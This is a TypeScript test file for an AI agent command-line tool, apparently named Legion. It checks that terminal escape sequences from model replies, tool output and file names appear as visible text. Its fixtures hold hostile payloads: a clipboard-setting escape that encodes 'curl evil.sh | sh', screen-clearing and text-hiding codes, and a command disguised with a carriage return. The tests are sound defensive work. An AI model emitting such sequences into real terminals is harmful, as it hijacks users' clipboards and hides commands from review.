import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { runLegion, LEGION, type LegionRun } from '../legion-process.test-support.js';
import { shellQuote, TMUX_MISSING, TmuxTerminal } from '../repl/terminal.test-support.js';
import { useWorkspace } from '../workspace.test-support.js';

// Terminal escape sequences from a model, a tool's output or a file name never reach the terminal:
// the built binary, the model on the real Anthropic SDK against aimock, stdout and stderr read as bytes.
const ESC = '\x1b';
const BEL = '\x07';
/** Sets the clipboard to `curl evil.sh | sh`, the window title, clears the screen and the scrollback, colours and hides text, reverses it. */
const HOSTILE = `Done.${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=${BEL} ${ESC}]0;owned${BEL} ${ESC}[2J${ESC}[3J ${ESC}[31mred${ESC}[8mhidden${ESC}[28m \u202egnp.exe\u202c \u009b2J end`;
const HOSTILE_SHOWN =
  'Done.\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07 \\x1b]0;owned\\x07 \\x1b[2J\\x1b[3J \\x1b[31mred\\x1b[8mhidden\\x1b[28m <U+202E>gnp.exe<U+202C> \\x9b2J end';
/** The colour codes Legion's own styling writes (node:util styleText): with colour on, the only escapes allowed out. */
const LEGION_STYLE = /\x1b\[(?:(?:0|[1234]|2[234]|3[1-69]|9[456])(?:;(?:0|[1234]|2[234]|3[1-69]|9[456]))*)?m/g;

/** What is left that a terminal would act on (C0 but new line and tab, DEL, C1, bidi controls) once Legion's own colours are taken out. */
function active(output: string): string[] {
  return [...output.replace(LEGION_STYLE, '').matchAll(/[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/gu)].map((match) =>
    JSON.stringify(output.slice(Math.max(0, match.index - 10), match.index + 10)),
  );
}

describe('terminal escapes from a model reach the terminal only as visible text', () => {
  const workspace = useWorkspace('legion-escapes-');
  const { mock, env, useModel } = workspace;

  beforeEach(() => {
    useModel('coordinator', { provider: 'anthropic', model: 'claude-test', baseURL: mock.url });
  });

  function legion(args: string[], extraEnv: Record<string, string> = {}): Promise<LegionRun> {
    return runLegion(args, { cwd: workspace.dir, env: { ...process.env, ...env(), ...extraEnv } });
  }

  /** The model lists the files, runs a command that prints escapes, then replies HOSTILE. */
  function scriptHostile(userMessage: string): void {
    mock.on(
      { model: 'claude-test', userMessage, toolCallId: undefined, hasToolResult: false },
      { toolCalls: [{ id: 'toolu_list', name: 'file_list', arguments: JSON.stringify({ path: '.' }) }] },
    );
    mock.on(
      { model: 'claude-test', userMessage, toolCallId: 'toolu_list' },
      {
        toolCalls: [
          {
            id: 'toolu_shell',
            name: 'shell_run',
            arguments: JSON.stringify({ command: `printf 'out:\\033]0;owned\\007:\\033[2J:end' # ${ESC}[1A${ESC}[2K` }),
          },
        ],
      },
    );
    mock.on({ model: 'claude-test', userMessage, toolCallId: 'toolu_shell' }, { content: HOSTILE });
  }

  const colours: Array<Record<string, string>> = [{ NO_COLOR: '1' }, { FORCE_COLOR: '1', NO_COLOR: '' }];
  for (const colour of colours) {
    const label = colour.NO_COLOR ? 'colour off' : 'colour on';
    it(`legion run (text and --verbose) and legion log show every escape as text (${label})`, async () => {
      writeFileSync(join(workspace.dir, `evil${ESC}]0;title${BEL}.txt`), 'x');
      scriptHostile('Be hostile');
      const run = await legion(['run', '--verbose', '--approve', 'auto', 'Be hostile'], colour);
      expect(run.status, run.stderr).toBe(0);
      expect(run.stdout).toBe(`${HOSTILE_SHOWN}\n`);
      expect(active(run.stdout)).toEqual([]);
      expect(active(run.stderr)).toEqual([]);
      // --verbose shows the file name, the command and its output, made visible.
      const stderr = run.stderr.replace(LEGION_STYLE, '');
      expect(stderr).toContain('evil\\x1b]0;title\\x07.txt');
      expect(stderr).toContain('# \\u001b[1A\\u001b[2K"}');
      expect(stderr).toContain('out:\\x1b]0;owned\\x07:\\x1b[2J:end');
      if (colour.FORCE_COLOR) expect(run.stderr).toMatch(LEGION_STYLE);

      const log = await legion(['log', 'user__coordinator'], colour);
      expect(log.status, log.stderr).toBe(0);
      expect(active(log.stdout)).toEqual([]);
      expect(active(log.stderr)).toEqual([]);
      expect(log.stdout.replace(LEGION_STYLE, '')).toContain(HOSTILE_SHOWN);
      expect(log.stdout.replace(LEGION_STYLE, '')).toContain('# \\u001b[1A\\u001b[2K"}');
      if (colour.FORCE_COLOR) expect(log.stdout).toMatch(LEGION_STYLE);

      // JSON output stays exact: the reply as the model wrote it.
      const json = await legion(['log', 'user__coordinator', '--json'], colour);
      expect(
        json.stdout
          .split('\n')
          .filter(Boolean)
          .map((line) => JSON.parse(line) as { message: { content: Array<{ type: string; text?: string }> } })
          .some((line) => line.message.content.some((block) => block.text === HOSTILE)),
      ).toBe(true);
    }, 90_000);
  }

  it('a paused run and legion approvals list the request with its escapes shown', async () => {
    const command = `touch PWN #\r${ESC}[2K${ESC}]0;t${BEL}  echo harmless`;
    mock.on(
      { model: 'claude-test', userMessage: 'Pause on it', hasToolResult: false },
      { toolCalls: [{ id: 'toolu_pause', name: 'shell_run', arguments: JSON.stringify({ command }) }] },
    );
    const run = await legion(['run', 'Pause on it']);
    expect(run.status, run.stderr).toBe(2);
    expect(active(run.stderr)).toEqual([]);
    expect(run.stderr).toContain('touch PWN #\\r\\u001b[2K\\u001b]0;t\\u0007  echo harmless');
    const listed = await legion(['approvals']);
    expect(active(listed.stdout)).toEqual([]);
    expect(listed.stdout).toContain('touch PWN #\\r\\u001b[2K\\u001b]0;t\\u0007  echo harmless');
  }, 90_000);

  it.skipIf(TMUX_MISSING)(
    'a reply streamed into the REPL in small pieces writes none of its escapes to the terminal',
    async () => {
      mock.on({ model: 'claude-test', userMessage: 'Stream it' }, { content: HOSTILE }, { chunkSize: 3 });
      const terminal = new TmuxTerminal(workspace.dir);
      try {
        const variables = Object.entries(env()).map(([name, value]) => `${name}=${value}`);
        terminal.start(`${['env', ...variables, process.execPath, LEGION].map(shellQuote).join(' ')}; echo "[legion exited: $?]"`);
        await terminal.waitFor('/help for commands');
        const raw = join(workspace.dir, 'terminal.raw');
        terminal.record(raw);
        terminal.type('Stream it');
        const shown = await terminal.waitFor(/end\s*\n\s+\(\d/);
        expect(shown).toContain('\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07');
        const written = readFileSync(raw, 'latin1');
        for (const sequence of [`${ESC}]52`, `${ESC}]0;owned`, `${ESC}[2J`, `${ESC}[3J`, `${ESC}[8m`, '\u009b', '\u00c2\u009b']) {
          expect(written.includes(sequence), JSON.stringify(sequence)).toBe(false);
        }
        expect(Buffer.from(written, 'latin1').toString('utf8')).not.toContain('\u202e');
      } finally {
        terminal.kill();
      }
    },
    90_000,
  );
});
